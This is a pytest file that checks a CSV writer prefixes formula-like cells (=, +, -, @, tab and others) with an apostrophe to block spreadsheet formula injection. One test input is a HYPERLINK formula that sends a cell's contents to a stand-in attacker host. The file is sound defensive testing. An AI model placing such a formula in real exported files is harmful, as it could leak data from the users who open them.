"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from elearn.domain.csvfile import safe_cell, write_csv


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r'=1+1"),  # the line break may end a row, too
        ("Ann;=1+1", "Ann;'=1+1"),  # a cell of its own where Excel's list separator is ';'
        ("Ann,@x", "Ann,'@x"),
        ("line one\n=1+1", "line one\n'=1+1"),
        ("Smith - Jones", "Smith - Jones"),
        ("Ann-Mari Ødegård", "Ann-Mari Ødegård"),
        ("facility < 0.3; negative discrimination", "facility < 0.3; negative discrimination"),
        ("", ""),
        ("-", "'-"),
        ("-12.50", "-12.50"),  # a plain number is no formula
        ("-0.25", "-0.25"),
        ("-1e5", "'-1e5"),
    ],
)
def test_text_cells_are_neutralised(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_numbers_and_none_pass() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_write_csv_neutralises_header_and_rows_and_reads_back() -> None:
    text = write_csv(header=["name", "=x"], rows=[["=1+1", -1], ["a,b", 'say "hi"']])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "'=x"], ["'=1+1", "-1"], ["a,b", 'say "hi"']]
    assert write_csv(header=["a"], rows=[], line_end="\n") == "a\n"
